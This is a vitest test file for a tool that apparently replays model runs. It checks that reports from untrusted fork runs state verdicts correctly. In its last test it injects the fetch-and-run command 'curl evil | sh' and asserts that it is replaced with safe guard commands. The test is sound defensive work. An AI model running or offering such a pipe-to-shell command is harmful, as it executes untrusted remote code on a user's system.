import { describe, expect, it } from "vitest";
import { verdictLine } from "../../../src/core/report/comment/opening.ts";
import { untrustedReport } from "../../../src/core/report/untrusted-report.ts";
import type { AgainstBase, ReplayReport } from "../../../src/core/schema/result.ts";
import { withAgainstBase } from "../../../src/core/verdict/base/against-base.ts";
import { buildReport } from "../../../src/core/verdict/suite/summary.ts";
import { failOn, sampleResult } from "./sample.ts";

const fixed = sampleResult({ verdict: "fixed", standing: "newly-fixed", blocks: false });
const base = "0123456789ab";
const against: AgainstBase = {
  base: "@octocat",
  cases: 1,
  figures: { tokens: { base: 10, head: 15, change: 0.5, interval: { low: 0.5, high: 0.5 } } },
  allowed: 0.2,
  exceeded: ["tokens"],
};

function shown(report: ReplayReport) {
  const { summary, ...rest } = untrustedReport(report, { base });
  return { ok: summary.ok, headline: summary.headline, ...verdictLine({ summary, ...rest }) };
}

describe("a fork's run has the same verdict in its comment", () => {
  it("if it costs more than the base allows", () => {
    const report = withAgainstBase(buildReport([fixed], failOn), against);
    const words = "it takes 50 % more tokens than the base, and 20 % are allowed";
    expect(shown(report)).toMatchObject({ ok: false, mark: "🔴", words: `No regressions, but ${words}.` });
    expect(shown(withAgainstBase(buildReport([fixed], failOn), { ...against, exceeded: undefined })).ok).toBe(true);
  });

  it("if all its cases were left out, and fails if it judged none of them", () => {
    const left = buildReport([], failOn, { left_out: "the 3 cases are not affected by @octocat" });
    expect(shown(left)).toEqual({
      ok: true,
      headline: "No case to replay: that run left all cases out",
      mark: "⚪",
      words: "No case to replay.",
    });
    expect(shown(buildReport([], failOn, { expected: true })).ok).toBe(false);
    expect(shown({ ...left, summary: { ...left.summary, ok: false } }).ok).toBe(false);
  });

  it("if it had no sandbox, whose reason is not repeated", () => {
    const report = untrustedReport(buildReport([fixed], failOn, { not_sandboxed: "@octocat" }), { base });
    expect(verdictLine(report).words).toMatch(/Not sandboxed\.$/);
    expect(report.summary.not_sandboxed).toBe("that run had no sandbox");
    expect(verdictLine(untrustedReport(buildReport([fixed], failOn), { base })).words).not.toContain("sandboxed");
  });
});

it("names commands that work when pasted: a fix on a live model is proven beside the base", () => {
  const live = { ...fixed, live_model: true, commands: { ...fixed.commands, guard: "curl evil | sh" } };
  const { cases } = untrustedReport(buildReport([fixed, live], failOn), { base });
  expect(cases.map(({ commands }) => commands.guard)).toEqual([
    "npx replaykit guard search-loop",
    "npx replaykit guard search-loop --base 0123456789ab",
  ]);
});
